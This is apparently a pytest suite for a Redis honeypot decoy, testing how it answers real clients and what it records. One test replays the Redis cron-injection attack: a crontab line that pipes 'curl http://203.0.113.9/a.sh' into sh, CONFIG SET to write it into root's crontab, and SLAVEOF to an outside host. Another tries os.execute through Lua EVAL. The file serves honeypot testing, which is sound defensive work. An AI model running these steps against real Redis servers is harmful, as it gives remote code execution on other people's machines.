"""Redis from end to end: real clients, a real sensor, and what it recorded."""

import socket
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from pathlib import Path

import pytest
import redis

from decnet.decoys.redis import DECOY
from decnet.decoys.redis.visit import Visit
from decnet.events import CommandIssued, CredentialOffered, DownloadRequested, FileCaptured, SessionEnded
from decnet.kit.resp import Malformed, RespReader, TooLarge
from tests.serving import Served, served
from tests.support import work
from tests.transcripts import context, pieces

OPEN = next(
    seed
    for seed in map(str, range(100))
    if not (visit := Visit(context(DECOY, seed, "database-server"))).locked and visit.loose
)
LOCKED = next(seed for seed in map(str, range(100)) if Visit(context(DECOY, seed, "devops-host")).locked)
serve = partial(served, archetype="database-server")


def cli(decky: Served, *words: str, stdin: str = "") -> str:
    command = ["redis-cli", "-h", decky.address, "-p", str(decky.port("redis")), *words]
    return subprocess.run(command, input=stdin, capture_output=True, text=True, timeout=20, check=True).stdout


@contextmanager
def client(decky: Served, protocol: int = 2, password: str | None = None) -> Iterator["redis.Redis"]:
    connection = redis.Redis(decky.address, decky.port("redis"), protocol=protocol, password=password)
    try:
        yield connection
    finally:
        connection.close()


@pytest.mark.needs("redis-cli")
def test_redis_cli_looks_around(tmp_path: Path) -> None:
    with serve(tmp_path, "redis", seed=OPEN) as decky:
        assert cli(decky, "ping") == "PONG\n"
        assert "redis_version:7.0.15" in cli(decky, "info", "server")
        keys = cli(decky, "--scan").split()
        assert set(keys) == set(cli(decky, "keys", "*").split())
        assert int(cli(decky, "dbsize")) == len(keys) > 5
        assert cli(decky, "--raw", "type", "user:1") == "hash\n"
        assert "password" in cli(decky, "hgetall", "user:1")
        assert cli(decky, stdin="set a 1\nincr a\nnosuch\n") == (
            "OK\n2\nERR unknown command 'nosuch', with args beginning with: \n\n"
        )
        lines = [fact.line for fact in decky.wait_for(CommandIssued, 8)]
    assert lines[:2] == [b"ping", b"info server"]
    assert b"incr a" in lines


@pytest.mark.parametrize("protocol", [2, 3])
def test_redis_py_holds_a_whole_conversation(tmp_path: Path, protocol: int) -> None:
    with serve(tmp_path, "redis", seed=OPEN) as decky, client(decky, protocol) as visitor:
        assert visitor.ping()
        assert visitor.set("k", "v", ex=100)
        assert 98 <= int(visitor.ttl("k")) <= 100
        assert visitor.get("k") == b"v"
        assert visitor.get("nope") is None
        assert visitor.hset("h", mapping={"a": "1", "b": "2"}) == 2
        assert visitor.hgetall("h") == {b"a": b"1", b"b": b"2"}
        assert visitor.zadd("z", {"x": 1.5, "y": 2}) == 2
        assert visitor.zscore("z", "x") == 1.5
        assert visitor.smembers("nope") == set()
        assert visitor.lpush("l", "a", "b") == 2
        assert visitor.lrange("l", 0, -1) == [b"b", b"a"]
        assert b"user:1" in visitor.keys("user:*")
        assert {b"k", b"h"} <= set(visitor.scan_iter(count=3))
        assert visitor.config_get("dir") == {"dir": "/var/lib/redis"}
        assert visitor.info()["redis_version"] == "7.0.15"
        assert visitor.info("keyspace")["db0"]["keys"] == visitor.dbsize()
        with visitor.pipeline() as transaction:
            transaction.incr("n")
            transaction.incr("n")
            assert transaction.execute() == [1, 2]
        assert visitor.client_list()[-1]["db"] == "0"
        assert visitor.eval("return redis.call('GET', KEYS[1])", 1, "k") == b"v"
        with pytest.raises(redis.ResponseError, match="nonexistent global variable 'os'"):
            visitor.eval("return os.execute('id')", 0)
        with pytest.raises(redis.ResponseError, match="WRONGTYPE"):
            visitor.incr("h")
        assert visitor.flushall()
        assert visitor.dbsize() == 0
        effects = {fact.line.split()[0].upper(): fact.effect for fact in decky.facts(CommandIssued)}
    assert (effects[b"GET"], effects[b"SET"], effects[b"EVAL"], effects[b"FLUSHALL"]) == (
        "read",
        "write",
        "execute",
        "write",
    )


def test_what_one_peer_leaves_stays_for_that_peer_alone(tmp_path: Path) -> None:
    with serve(tmp_path, "redis", seed=OPEN) as decky:
        with client(decky) as visitor:
            visitor.set("mine", "1")
            visitor.delete("user:1")
        with client(decky) as visitor:
            assert visitor.get("mine") == b"1"
            assert not visitor.exists("user:1")
        with socket.create_connection((decky.address, decky.port("redis")), source_address=("127.9.8.7", 0)) as other:
            other.sendall(b"EXISTS mine user:1\r\n")
            assert other.recv(100) == b":1\r\n"


def test_a_locked_one_wants_a_password_and_keeps_it(tmp_path: Path) -> None:
    with serve(tmp_path, "redis", seed=LOCKED, archetype="devops-host") as decky:
        with client(decky) as visitor, pytest.raises(redis.AuthenticationError, match="Authentication required"):
            visitor.ping()
        for wrong in ("hunter2-hunter2", "correct horse"):
            with client(decky, password=wrong) as visitor, pytest.raises(redis.AuthenticationError):
                visitor.ping()
        with client(decky, password="foobared") as visitor:
            assert visitor.ping()
        with client(decky, password="123456") as visitor, pytest.raises(redis.AuthenticationError):
            visitor.ping()
        offers = decky.wait_for(CredentialOffered, 4)
        commands = [fact.line for fact in decky.facts(CommandIssued)]
    seen = dict.fromkeys(
        (offer.secret.reveal(), offer.accepted) for offer in offers
    )  # the client tries again by itself
    assert list(seen) == [
        (b"hunter2-hunter2", False),
        (b"correct horse", False),
        (b"foobared", True),
        (b"123456", False),
    ]
    assert not any(b"foobared" in line or b"hunter2" in line for line in commands)


def test_keys_that_become_a_cron_job_are_kept(tmp_path: Path) -> None:
    with serve(tmp_path, "redis", seed=OPEN) as decky, client(decky) as visitor:
        job = "\n\n*/1 * * * * curl -fsSL http://203.0.113.9/a.sh | sh\n\n"
        visitor.set("backup1", job)
        visitor.config_set("dir", "/var/spool/cron/crontabs")
        visitor.config_set("dbfilename", "root")
        assert visitor.save()
        visitor.slaveof("203.0.113.9", 21000)
        (captured,) = decky.wait_for(FileCaptured)
        (download,) = decky.wait_for(DownloadRequested)
        kept = [path for path in (tmp_path / "artifacts").rglob("*") if path.name.startswith(captured.sha256)]
        assert job.encode() in kept[0].read_bytes()
    assert captured.path == b"/var/spool/cron/crontabs/root"
    assert download.url == b"redis://203.0.113.9:21000"


@pytest.mark.needs("nmap")
def test_nmap_names_it(tmp_path: Path) -> None:
    with serve(tmp_path, "redis", seed=OPEN) as decky:
        command = ["nmap", "-sV", "-Pn", "-n", "-p", str(decky.port("redis")), decky.address]
        said = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True).stdout
        assert "Redis key-value store" in said, said
        assert all(ended.reason in {"visitor", "lost"} for ended in decky.facts(SessionEnded))


def requests(data: bytes, size: int, strict: bool = False) -> list[list[bytes]]:
    reader = RespReader(strict)
    return [words for piece in pieces(data, size) for words in reader.feed(piece)]


@pytest.mark.parametrize("size", [1, 7, 4096])
@pytest.mark.parametrize(
    "form",
    [
        lambda n: b"*%d\r\n" % n + b"$1\r\nA\r\n" * n,
        lambda n: b"a 'b' \"c\" " * n + b"\r\n",
        lambda n: b"\0\n" * n,
        lambda n: b"\\x41" * n,
    ],
    ids=["words", "inline", "nul", "escapes"],
)
def test_one_request_costs_linear_work(form: Callable[[int], bytes], size: int) -> None:
    few, many = (work(partial(requests, form(n), size)) for n in (100, 400))
    assert many <= 4.4 * few + 100


@pytest.mark.parametrize("size", [1, 3, 4096])
def test_requests_are_the_same_in_any_pieces(size: int) -> None:
    data = b"\r\nPING  x\r\n*2\r\n$3\r\nGET\r\n$4\r\n\r\n\r\n\r\n*0\r\n*-1\r\n*1\r\n$0\r\n\r\n"
    assert requests(data, size) == [[b"PING", b"x"], [b"GET", b"\r\n\r\n"], [b""]]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"*1\r\nPING\r\n", b"expected '$', got 'P'"),
        (b"*1\r\n$-1\r\n", b"invalid bulk length"),
        (b"*1\r\n$536870913\r\n", b"invalid bulk length"),
        (b"*1048577\r\n", b"invalid multibulk length"),
        (b"*01\r\n", b"invalid multibulk length"),
        (b"x" * 70_000, b"too big inline request"),
        (b"\0\n" * 40_000, b"too big inline request"),
        (b"*" + b"1" * 70_000, b"too big mbulk count string"),
        (b"*1\r\n*" + b"1" * 70_000, b"too big bulk count string"),
        (b'"a"b\r\n', b"unbalanced quotes in request"),
        (b"'a\r\n", b"unbalanced quotes in request"),
    ],
)
def test_what_redis_says(data: bytes, reason: bytes) -> None:
    with pytest.raises(Malformed) as caught:
        requests(data, 4096)
    assert caught.value.reason == reason


def test_what_is_too_large_for_us_alone() -> None:
    with pytest.raises(TooLarge):
        requests(b"*1\r\n$3000000\r\n", 4096)
    with pytest.raises(TooLarge):
        requests(b"*100000\r\n" + b"$0\r\n\r\n" * 100_000, 4096)
